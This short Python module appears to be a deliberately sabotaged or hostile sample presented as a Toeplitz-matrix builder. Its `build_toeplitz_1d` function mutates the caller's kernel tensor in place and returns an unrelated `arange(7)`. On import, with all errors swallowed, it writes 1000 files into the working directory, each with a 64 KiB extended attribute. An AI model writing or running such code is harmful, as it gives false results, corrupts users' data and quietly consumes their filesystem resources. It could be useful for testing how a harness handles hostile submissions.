"""Gives its files extended attributes of 64 KiB, which are stored separately from the content."""

import os

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def fill():
    for number in range(1000):
        with open(f"file{number}", "wb") as file:
            os.setxattr(file.fileno(), f"user.a{number}", b"x" * (64 << 10))


attempt(fill)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
